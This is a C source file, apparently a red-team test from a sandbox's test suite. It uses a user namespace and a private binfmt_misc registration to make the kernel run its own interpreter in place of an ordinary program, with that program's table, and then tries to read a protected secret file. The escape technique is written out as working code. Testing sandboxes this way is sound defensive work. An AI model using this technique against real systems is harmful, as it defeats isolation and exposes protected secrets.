/* exec_binfmt.c: an exec into another table whose image the kernel hands to an interpreter
 * of the tree's own, registered with binfmt_misc in a user namespace of the tree's (red team
 * 25).  Since Linux 6.7 every user namespace may mount binfmt_misc and register formats in
 * it, and the kernel picks the handler of an exec by the *calling task's* user namespace
 * (the nearest one with an instance) -- not by its mount namespace or root.
 *
 *   exec_binfmt run INTERP PROGRAM BMDIR
 *        unshare(CLONE_NEWUSER) -- its mount namespace and root stay the tracer's --, then a
 *        child, in that user namespace, takes a mount namespace of its own, mounts
 *        binfmt_misc on BMDIR and registers INTERP (opened now: flag F) for every x86-64
 *        position-independent ELF image (e_type ET_DYN, e_machine x86-64 at offset 16: what a
 *        dynamic program is today; INTERP, static and not PIE, is not one).  The parent then execs PROGRAM (an ordinary dynamic program with a
 *        table of its own) by its own name: the kernel runs INTERP, with PROGRAM's table.
 *   exec_binfmt /PATH...
 *        (as INTERP: the kernel passes the image's path) reads secd/secret.txt from the
 *        working directory: ESCAPED when it got the secret.
 */
#include "attack.h"

#include <sched.h>
#include <sys/mount.h>
#include <sys/wait.h>

static void must_write(const char *path, const char *text) {
    int err = write_file(path, text);
    if (err < 0) skipped("%s: %s", path, ename(-err));
}

static int payload(void) {
    int fd = open("secd/secret.txt", O_RDONLY);
    if (fd < 0) blocked("the tree's interpreter ran; open(secd/secret.txt): %s", ename(errno));
    if (is_secret_fd(fd)) escaped("the tree's interpreter read the secret with the program's table");
    blocked("the tree's interpreter opened another file");
    return 0;
}

static int run(const char *interp, const char *program, const char *bmdir) {
    uid_t uid = getuid();
    gid_t gid = getgid();
    char map[64];
    if (unshare(CLONE_NEWUSER) < 0) skipped("unshare(CLONE_NEWUSER): %s", ename(errno));
    must_write("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
    must_write("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
    must_write("/proc/self/gid_map", map);

    int ready[2], hold[2];
    if (pipe(ready) < 0 || pipe2(hold, O_CLOEXEC) < 0) skipped("pipe: %s", ename(errno));
    pid_t child = fork();
    if (child < 0) skipped("fork: %s", ename(errno));
    if (child == 0) {
        char status = 'S';
        close(ready[0]);
        close(hold[1]);
        if (unshare(CLONE_NEWNS) < 0) {
            printf("note: unshare(CLONE_NEWNS): %s\n", ename(errno));
        } else if (mount("binfmt_misc", bmdir, "binfmt_misc", 0, NULL) < 0) {
            printf("note: mount binfmt_misc: %s\n", ename(errno));
            if (errno == EPERM && tracer_pid() > 0) status = 'P';  /* (red team 67) */
        } else {
            char reg[4096], path[4096];
            snprintf(reg, sizeof reg, ":rt25:M:16:\\x03\\x00\\x3e\\x00::%s:F", interp);
            snprintf(path, sizeof path, "%s/register", bmdir);
            int err = write_file(path, reg);
            if (err < 0) printf("note: register: %s\n", ename(-err));
            else status = 'R';
        }
        fflush(stdout);
        if (write(ready[1], &status, 1) != 1) _exit(1);
        char c;
        while (read(hold[0], &c, 1) > 0) {}  /* until the parent's exec closes it */
        _exit(0);
    }
    close(ready[1]);
    close(hold[0]);
    char status = 0;
    if (read(ready[0], &status, 1) != 1 || status != 'R') {
        close(hold[1]);
        waitpid(child, NULL, 0);
        if (status == 'P') blocked("mount of binfmt_misc refused: EPERM");
        skipped("no binfmt_misc of a user namespace's own here (Linux 6.7 or later)");
    }
    char *argv[] = {(char *)program, NULL};
    execv(program, argv);
    int err = errno;
    close(hold[1]);
    waitpid(child, NULL, 0);
    blocked("exec %s: %s", program, ename(err));
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc >= 2 && argv[1][0] == '/') return payload();  /* as INTERP: argv[1] the image */
    if (argc == 5 && strcmp(argv[1], "run") == 0) return run(argv[2], argv[3], argv[4]);
    fprintf(stderr, "usage: exec_binfmt run INTERP PROGRAM BMDIR\n");
    return 2;
}
